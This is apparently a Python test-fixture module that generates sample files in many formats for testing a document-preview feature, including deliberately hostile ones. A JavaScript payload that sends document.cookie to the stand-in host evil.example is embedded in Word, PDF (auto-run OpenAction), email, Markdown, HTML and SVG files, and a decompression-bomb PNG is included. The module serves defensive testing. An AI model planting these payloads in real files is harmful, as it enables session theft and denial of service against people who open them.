"""Files for the preview's tests: of every kind, and some that would do harm if they could."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from typing import Any

import docx
import openpyxl
import pypdf
from docx.enum.text import WD_BREAK
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from core import accounts
from vault import documents

ELSEWHERE = "http://evil.example"
SCRIPT = f"try {{ parent.document.title = 'taken' }} catch (e) {{}} fetch('{ELSEWHERE}/stolen?' + document.cookie)"
"""What a script in a file would do if it ran."""


def shelved(project: str, mail: str, names: list[str]) -> dict[str, str]:
    """Put files of FILES as the person; name -> the document's code."""
    actor = accounts.by_mail(mail).actor
    return {
        name: documents.put(actor, project, io.BytesIO(FILES[name]()), file_name=name, class_="design").code
        for name in names
    }


def saved(made) -> bytes:
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def word(pages: int = 3) -> bytes:
    """Some pages in two languages, with a table and a list."""
    made = docx.Document()
    for number in range(1, pages + 1):
        made.add_heading(f"{number} Gate design 闸机设计", 1)
        for line in range(8):
            made.add_paragraph(
                f"A valid ticket opens the gate within 400 ms; line {line} of page {number}. 有效车票应在四百毫秒内打开闸机，同时在后台登记一次通行。"
            )
        table = made.add_table(3, 3, style="Table Grid")
        for row in range(3):
            for column in range(3):
                table.cell(row, column).text = [
                    "REQ-1",
                    "Open",
                    "must",
                    "REQ-2",
                    "打印",
                    "could",
                    "REQ-3",
                    "Log",
                    "should",
                ][row * 3 + column]
        made.add_paragraph("First", style="List Bullet")
        if number < pages:
            made.add_paragraph().add_run().add_break(WD_BREAK.PAGE)
    return saved(made)


def hostile_word() -> bytes:
    """Links to scripts, a picture and a page that lie elsewhere, embedded HTML with a script."""
    made = docx.Document()
    paragraph = made.add_paragraph("Hostile words. ")
    for target in ("javascript:" + SCRIPT, f"{ELSEWHERE}/page"):
        link = OxmlElement("w:hyperlink")
        link.set(qn("r:id"), made.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True))
        run, text = OxmlElement("w:r"), OxmlElement("w:t")
        text.text = f"link to {target[:10]}"
        run.append(text)
        link.append(run)
        paragraph._p.append(link)
    picture = made.add_paragraph().add_run().add_picture(io.BytesIO(png(20, 20)))
    blip = picture._inline.find(f".//{qn('a:blip')}")
    blip.set(qn("r:link"), made.part.relate_to(f"{ELSEWHERE}/x.png", RELATIONSHIP_TYPE.IMAGE, is_external=True))
    del blip.attrib[qn("r:embed")]
    chunk = OxmlElement("w:altChunk")
    chunk.set(qn("r:id"), "rIdChunk")
    made.element.body.insert(1, chunk)
    source, out = zipfile.ZipFile(io.BytesIO(saved(made))), io.BytesIO()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
    with zipfile.ZipFile(out, "w") as target_file:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "word/_rels/document.xml.rels":
                relation = f'<Relationship Id="rIdChunk" Type="{kind}" Target="chunk.html"/></Relationships>'
                content = content.replace(b"</Relationships>", relation.encode())
            if item.filename == "[Content_Types].xml":
                content = content.replace(
                    b"<Default", b'<Default Extension="html" ContentType="text/html"/><Default', 1
                )
            target_file.writestr(item, content)
        target_file.writestr("word/chunk.html", f"<html><script>{SCRIPT}</script><img src='{ELSEWHERE}/y.png'></html>")
    return out.getvalue()


def pdf(pages: int = 3, *, hostile: bool = False) -> bytes:
    """Pages with a line of text; a hostile one has scripts and actions that run when it is opened."""
    writer = pypdf.PdfWriter()
    font = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
    })  # fmt: skip
    for number in range(1, pages + 1):
        page = writer.add_blank_page(595, 842)
        stream = DecodedStreamObject()
        stream.set_data(f"BT /F1 24 Tf 72 740 Td (Page {number} of the plan) Tj ET".encode())
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
        page[NameObject("/Contents")] = writer._add_object(stream)
        if hostile:
            page[NameObject("/Annots")] = ArrayObject([
                writer._add_object(_link(700, "/URI", "URI", f"{ELSEWHERE}/page")),
                writer._add_object(_link(650, "/URI", "URI", "javascript:" + SCRIPT)),
                writer._add_object(_link(600, "/JavaScript", "JS", SCRIPT)),
            ])  # fmt: skip
    if hostile:
        script = _action("/JavaScript", "JS", f"app.launchURL('{ELSEWHERE}/js'); {SCRIPT}")
        names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), script])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
        opening = _action("/URI", "URI", f"{ELSEWHERE}/open")
        opening[NameObject("/Next")] = script
        writer._root_object[NameObject("/OpenAction")] = opening
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _link(bottom: int, kind: str, key: str, target: str) -> DictionaryObject:
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (72, bottom, 300, bottom + 30)]),
        NameObject("/A"): _action(kind, key, target),
    })  # fmt: skip


def _action(kind: str, key: str, target: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(f"/{key}"): TextStringObject(target)})


def scan() -> bytes:
    """What needs the files beside pdf.js: Chinese in a font that the file does not bring, a picture in JPEG 2000."""
    name, writer, picture = NameObject, pypdf.PdfWriter(), io.BytesIO()
    Image.new("RGB", (200, 100), (11, 110, 91)).save(picture, "JPEG2000")
    collection = {
        "/Registry": TextStringObject("Adobe"),
        "/Ordering": TextStringObject("GB1"),
        "/Supplement": NumberObject(0),
    }
    described = {
        "/Type": name("/FontDescriptor"), "/FontName": name("/STSong-Light"), "/Flags": NumberObject(6),
        "/FontBBox": ArrayObject([NumberObject(n) for n in (-25, -254, 1000, 880)]), "/ItalicAngle": NumberObject(0),
        "/Ascent": NumberObject(880), "/Descent": NumberObject(-120), "/StemV": NumberObject(93),
    }  # fmt: skip
    glyphs = {
        "/Type": name("/Font"), "/Subtype": name("/CIDFontType0"), "/BaseFont": name("/STSong-Light"),
        "/CIDSystemInfo": _dictionary(collection), "/FontDescriptor": writer._add_object(_dictionary(described)),
    }  # fmt: skip
    font = {
        "/Type": name("/Font"), "/Subtype": name("/Type0"), "/BaseFont": name("/STSong-Light"),
        "/Encoding": name("/UniGB-UCS2-H"), "/DescendantFonts": ArrayObject([writer._add_object(_dictionary(glyphs))]),
    }  # fmt: skip
    image = StreamObject()
    image._data = picture.getvalue()
    image.update(_dictionary({
        "/Type": name("/XObject"), "/Subtype": name("/Image"), "/Width": NumberObject(200), "/Height": NumberObject(100),
        "/Filter": name("/JPXDecode"), "/ColorSpace": name("/DeviceRGB"), "/BitsPerComponent": NumberObject(8),
    }))  # fmt: skip
    stream = DecodedStreamObject()
    words = "扫描件验收".encode("utf-16-be").hex()
    stream.set_data(f"BT /F1 24 Tf 72 740 Td <{words}> Tj ET q 300 0 0 150 72 500 cm /I Do Q".encode())
    page = writer.add_blank_page(595, 842)
    page[name("/Resources")] = _dictionary({
        "/Font": _dictionary({"/F1": _dictionary(font)}), "/XObject": _dictionary({"/I": writer._add_object(image)}),
    })  # fmt: skip
    page[name("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _dictionary(entries: dict[str, Any]) -> DictionaryObject:
    return DictionaryObject({NameObject(key): value for key, value in entries.items()})


def locked() -> bytes:
    """A PDF that wants a password."""
    writer, out = pypdf.PdfWriter(), io.BytesIO()
    writer.append(io.BytesIO(pdf(1)))
    writer.encrypt("secret")
    writer.write(out)
    return out.getvalue()


def workbook() -> bytes:
    """Two sheets, the first long."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "需求"
    sheet.append(["Code", "What", "Share"])
    for number in range(600):
        sheet.append([f"REQ-{number}", "闸机 <b>open</b>", number / 600])
        sheet.cell(number + 2, 3).number_format = "0.0%"
    sheet.column_dimensions["B"].width = 30
    book.create_sheet("Costs")["A1"] = "Second sheet"
    return saved(book)


def mail() -> bytes:
    """A mail with an attachment, whose page would fetch a picture."""
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "Li Wei <li@example.com>", "ana@example.com", "闸机验收"
    made.set_content(f"<p>Words of a mail <img src='{ELSEWHERE}/z.png'></p><script>{SCRIPT}</script>", subtype="html")
    made.add_attachment(b"x" * 2_000, maintype="application", subtype="pdf", filename="plan.pdf")
    return bytes(made)


def png(width: int, height: int, claimed: tuple[int, int] | None = None) -> bytes:
    """A green picture; it may claim to be another size than it is."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", *(claimed or (width, height)), 8, 2, 0, 0, 0)
    lines = zlib.compress(b"".join(b"\x00" + b"\x0b\x6e\x5b" * width for _ in range(height)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


MARKDOWN = f"""# Minutes 会议纪要

Agreed: **gates open** within 400 ms. [a page]({ELSEWHERE}/page) [a script](javascript:alert(1))
![a picture]({ELSEWHERE}/m.png) <img src="{ELSEWHERE}/raw.png" onerror="alert(1)"> <script>{SCRIPT}</script>

| what | who |
|---|---|
| test | Li Wei |
"""

FILES = {
    "Gate.docx": word, "Long.docx": lambda: word(50), "hostile words.docx": hostile_word,
    "Plan.pdf": pdf, "hostile plan.pdf": lambda: pdf(2, hostile=True), "locked.pdf": locked, "scan.pdf": scan,
    "Costs.xlsx": workbook, "table.csv": lambda: "编号;名称\nREQ-1;闸机\n".encode(),
    "letter.eml": mail, "minutes.md": MARKDOWN.encode,
    "notes.txt": lambda: "验收标准：四百毫秒。\n".encode("gb18030") * 30,
    "Map.png": lambda: png(400, 300), "bomb.png": lambda: png(10, 10, (60_000, 60_000)),
    "page.html": lambda: f"<h1>Scope</h1><p>Words of a page</p><script>{SCRIPT}</script>".encode(),
    "drawing.svg": lambda: f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'.encode(),
    "old.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "torn.docx": lambda: word(1)[:9_000],
}  # fmt: skip


def put_version(project: str, mail: str, document: str, content: bytes) -> None:
    """The next version of a document."""
    documents.put(
        accounts.by_mail(mail).actor, project, io.BytesIO(content), file_name="notes.txt", class_="", document=document
    )
